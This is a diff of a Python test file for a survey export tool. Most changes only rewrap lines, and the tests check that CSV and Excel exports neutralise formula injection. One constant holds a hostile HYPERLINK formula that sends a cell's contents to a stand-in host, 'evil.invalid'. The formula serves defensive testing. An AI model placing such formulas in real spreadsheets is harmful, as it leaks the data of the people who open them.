@@ -65,8 +65,13 @@ def test_xlsx_keeps_numbers_numbers_and_formulas_text(workbook):
         # XML reads a carriage return as a line feed; the cell is still text, not a formula
         assert cell.value == text.replace("\r", "\n") and cell.data_type == "s", text
     assert all(c.quotePrefix for c in comments[:6])
-    formulas = [c.coordinate for sheet in book for row in sheet.iter_rows() for c in row
-                if c.data_type == "f"]
+    formulas = [
+        c.coordinate
+        for sheet in book
+        for row in sheet.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
     assert formulas == []
 
 
@@ -77,14 +82,18 @@ def test_xlsx_cuts_a_text_too_long_for_a_cell_and_says_so(workbook):
     assert cut.startswith(LONG_TEXT[:1000])
     assert [str(p) for p in problems] == [
         f"out.xlsx:{len(TRICKY_TEXTS) + 1}: data, column comment: a text of more than "
-        f"{CELL_LIMIT} characters was cut to fit an Excel cell"]
+        f"{CELL_LIMIT} characters was cut to fit an Excel cell"
+    ]
 
 
 def test_xlsx_codebook_and_statistics_sheets(workbook, dataset):
     book, _ = workbook
     codebook = {row[0]: row for row in book["codebook"].iter_rows(min_row=2, values_only=True)}
-    assert codebook["use_a"][1:] == ("ordinal", "Jag kan använda det",
-                                     "1 = Instämmer inte; 5 = Instämmer helt; na = Vet ej")
+    assert codebook["use_a"][1:] == (
+        "ordinal",
+        "Jag kan använda det",
+        "1 = Instämmer inte; 5 = Instämmer helt; na = Vet ej",
+    )
     assert codebook["topics__b"][2] == "Ämnen: Ämne B"
     assert codebook["role"][3] == "staff = Personal; lead = Chef; other = Annan roll"
     statistics = list(book["statistics"].iter_rows(min_row=2, values_only=True))
@@ -131,6 +140,8 @@ def _formula_like(cell: str) -> bool:
     except ValueError:
         return cell[:1] in ("=", "+", "-", "@", "\t", "\r")
     return False
+
+
 EVIL_TAG = '=HYPERLINK("http://evil.invalid/?leak="&A2,"click")'
 
 
@@ -149,16 +160,32 @@ def _hostile_copy(results, folder):
 
 @pytest.mark.parametrize("options", [[], ["--labels"], ["--excel"], ["--excel", "--labels"]])
 def test_every_csv_export_neutralises_formulas_in_values_and_column_names(
-        tmp_path, results, options):
+    tmp_path, results, options
+):
     path = _hostile_copy(results, tmp_path)
     out = tmp_path / "out.csv"
-    done = subprocess.run([sys.executable, "-m", "surveytui", "export", "--format", "csv",
-                           *options, "-o", str(out), str(path)],
-                          capture_output=True, text=True, timeout=120)
+    done = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "surveytui",
+            "export",
+            "--format",
+            "csv",
+            *options,
+            "-o",
+            str(out),
+            str(path),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert done.returncode == 0, done.stderr
     text = out.read_text(encoding="utf-8-sig")
-    rows = list(csv.reader(io.StringIO(text, newline=""),
-                           delimiter=";" if "--excel" in options else ","))
+    rows = list(
+        csv.reader(io.StringIO(text, newline=""), delimiter=";" if "--excel" in options else ",")
+    )
     assert "'" + EVIL_TAG in rows[0] and EVIL_TAG not in rows[0]
     assert rows[1][rows[0].index("comment")] == "'" + ATTACK
     assert [cell for row in rows for cell in row if _formula_like(cell)] == []
@@ -188,8 +215,12 @@ def test_csv_for_nordic_excel(dataset):
     assert text.startswith("\ufeffsubmitted_at;") and "\r\n" in text
     rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))
     assert [r["hours"] for r in rows[:3]] == ["2,5", "3,5", "4,5"]
-    assert [r["comment"] for r in rows[:4]] == ["'=SUM(A1:A2)", "'+46 70 123 45 67",
-                                                "'-inte bra", "'@alla"]
+    assert [r["comment"] for r in rows[:4]] == [
+        "'=SUM(A1:A2)",
+        "'+46 70 123 45 67",
+        "'-inte bra",
+        "'@alla",
+    ]
     assert rows[6]["comment"] == TRICKY_TEXTS[6]
 
 
@@ -237,19 +268,24 @@ def test_a_results_file_without_responses(tmp_path):
     results.write_text(",".join(questionnaire.header(["unit"])) + "\n", encoding="utf-8")
     shutil.copyfile(SURVEY, tmp_path / "report-test-v1.questionnaire.yaml")
     for fmt in ("sav", "xlsx", "csv"):
-        assert main(["export", str(results), "--format", fmt,
-                     "-o", str(tmp_path / f"out.{fmt}")]) == 0
+        assert (
+            main(["export", str(results), "--format", fmt, "-o", str(tmp_path / f"out.{fmt}")]) == 0
+        )
     frame, meta = pyreadstat.read_sav(str(tmp_path / "out.sav"))
     assert len(frame) == 0 and meta.variable_value_labels["role"] == {
-        "staff": "Personal", "lead": "Chef", "other": "Annan roll"}
+        "staff": "Personal",
+        "lead": "Chef",
+        "other": "Annan roll",
+    }
     assert openpyxl.load_workbook(tmp_path / "out.xlsx")["data"].max_row == 1
 
 
 def test_sav_refuses_a_name_spss_cannot_hold(tmp_path, capsys):
     long_id = "a_very_long_question_id_that_goes_on_and_on_past_what_spss_allows_x"
     survey = tmp_path / "long.yaml"
-    survey.write_text(SURVEY.read_text(encoding="utf-8").replace("use_b", long_id),
-                      encoding="utf-8")
+    survey.write_text(
+        SURVEY.read_text(encoding="utf-8").replace("use_b", long_id), encoding="utf-8"
+    )
     results = tmp_path / "long.csv"
     store = ResponseStore(results, load_questionnaire(survey))
     store.append({long_id: 3, "again": True})
@@ -264,8 +300,12 @@ def cell_strategy(spec):
     if spec.na:
         options.append(st.just("na"))
     if spec.kind in ("text", "other"):
-        options.append(st.text(st.characters(blacklist_categories=("Cs", "Cc"),
-                                             whitelist_characters="\t\n\r"), max_size=12))
+        options.append(
+            st.text(
+                st.characters(blacklist_categories=("Cs", "Cc"), whitelist_characters="\t\n\r"),
+                max_size=12,
+            )
+        )
     elif spec.kind == "number":
         options.append(st.integers(-10, 1000).map(str))
         options.append(st.floats(-10, 1000, allow_nan=False).map(repr))
@@ -275,12 +315,17 @@ def cell_strategy(spec):
 
 
 SPECS = column_specs(load_questionnaire(SURVEY))
-ROW = st.fixed_dictionaries({"unit": st.sampled_from(list(UNITS)),
-                             **{column: cell_strategy(spec) for column, spec in SPECS.items()}})
+ROW = st.fixed_dictionaries(
+    {
+        "unit": st.sampled_from(list(UNITS)),
+        **{column: cell_strategy(spec) for column, spec in SPECS.items()},
+    }
+)
 
 
-@settings(max_examples=25, deadline=None,
-          suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(
+    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
 @given(rows=st.lists(ROW, max_size=14))
 def test_any_results_file_reports_and_exports(tmp_path_factory, rows):
     folder = tmp_path_factory.mktemp("any")
@@ -288,9 +333,14 @@ def test_any_results_file_reports_and_exports(tmp_path_factory, rows):
     header = questionnaire.header(["unit"])
     lines = [encode_line(header)]
     for i, row in enumerate(rows):
-        cells = {"response_id": f"00000000-0000-4000-8000-{i:012d}",
-                 "submitted_at": "2026-03-01", "questionnaire_id": questionnaire.id,
-                 "questionnaire_version": questionnaire.version, "language": "sv", **row}
+        cells = {
+            "response_id": f"00000000-0000-4000-8000-{i:012d}",
+            "submitted_at": "2026-03-01",
+            "questionnaire_id": questionnaire.id,
+            "questionnaire_version": questionnaire.version,
+            "language": "sv",
+            **row,
+        }
         lines.append(encode_line([cells.get(column, "") for column in header]))
     results = folder / "report-test-v1.csv"
     results.write_text("".join(lines), encoding="utf-8", newline="")
